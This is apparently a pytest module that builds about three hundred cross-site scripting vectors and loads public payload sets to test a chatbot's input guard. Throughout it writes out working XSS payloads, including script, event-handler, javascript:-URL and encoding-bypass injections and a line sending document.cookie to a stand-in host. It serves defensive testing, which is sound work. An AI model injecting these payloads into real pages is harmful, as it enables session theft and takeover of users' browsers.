"""Three hundred ways to smuggle markup or script into a page."""

import json
import re
from collections.abc import Iterator
from itertools import product

import pytest

from chatbot.errors import AnswerDeskError
from chatbot.guard import admit
from tests.benchmarks.data_sets import folder

_RUN = (
    "alert(1)",
    "window.hit=1",
    "parent.hit=1",
    "import('/ui/chat.js').then(()=>{window.hit=1})",
    "fetch('//evil.example/'+document.cookie)",
)
_SHAPES = (
    "<script>{}</script>",
    "<script src=//evil.example/x.js>{}</script>",
    "<img src=x onerror={}>",
    "<img src=https://evil.example/x.png alt={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "[x](javascript:{})",
    "![x](https://evil.example/x.png?{})",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>",
    "<base href=//evil.example/><p>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/x.css?{}>",
    "<style>@import '//evil.example/{}';</style>",
    "<template><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    '" autofocus onfocus={} x="',
    "' onmouseover='{}' '",
    "</div></article></div><script>{}</script>",
    "</textarea><script>{}</script>",
    "</button><img src=x onerror={}>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "${{{}}}",
    "`${{{}}}`",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{#with this as |x|}}}}{}{{{{/with}}}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={}\\x3e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<scr\u200bipt>{}</scr\u200bipt>",
    "<sCrIpT>{}</sCrIpT>",
    "<<script>{}//<</script>",
    "<img/src=x/onerror={}//",
    "<img src=x onerror=&#x61;lert(1) {}",
    "<a href='https://evil.example' ping='//evil.example' style='position:fixed;inset:0'>{}</a>",
    'https://evil.example/"onmouseover={}//',
    "https://evil.example/<img src=x onerror={}>",
    "data:text/html,<script>{}</script>",
    "[1]<img src=x onerror={}>[1]",
    "<div data-ask='x' data-open='why' onclick={}>x</div>",
    "<button data-do=stop onclick={}>x</button>",
    "<form action=//evil.example><button>{}</button></form>",
    "<x contenteditable onblur={} tabindex=1 id=ad-question>x",
    "<p class=ad-working onanimationstart={} style='animation:ad-breathe 1s'>x",
)
VECTORS = [shape.format(run) for run, shape in product(_RUN, _SHAPES)]

_PAYLOAD = re.compile(r'^\s*"payload": (".*"),?$', re.MULTILINE)
_MOST_CHARACTERS = 900


def public_vectors() -> list[str]:
    """DOMPurify's payloads and the naughty strings, as far as they are readable text; none in a clone."""
    payloads = folder() / "xss_payloads" / "dompurify" / "expect.mjs"
    strings = folder() / "blns" / "blns.json"
    if not payloads.is_file() or not strings.is_file():
        return []
    found: list[str] = [json.loads(text) for text in _PAYLOAD.findall(payloads.read_text("utf-8"))]
    found += json.loads(strings.read_text("utf-8"))
    return [vector for vector in (_readable(text[:_MOST_CHARACTERS]) for text in found) if vector]


def _readable(text: str) -> str:
    try:
        return admit(text, _MOST_CHARACTERS)
    except AnswerDeskError:
        return ""


def messages(vectors: list[str]) -> Iterator[str]:
    """`vectors` in messages that may be sent, several in each."""
    together = ""
    for vector in vectors:
        if together and len(together) + len(vector) > 2 * _MOST_CHARACTERS:
            yield together
            together = ""
        together = f"{together}\n{vector}" if together else vector
    if together:
        yield together


# With the public data, where it is, after our own.
SOURCES = (
    pytest.param(VECTORS, id="ours"),
    pytest.param(
        public_vectors(),
        id="public",
        marks=[
            pytest.mark.data,
            pytest.mark.skipif(not public_vectors(), reason="the public data sets are not there"),
        ],
    ),
)
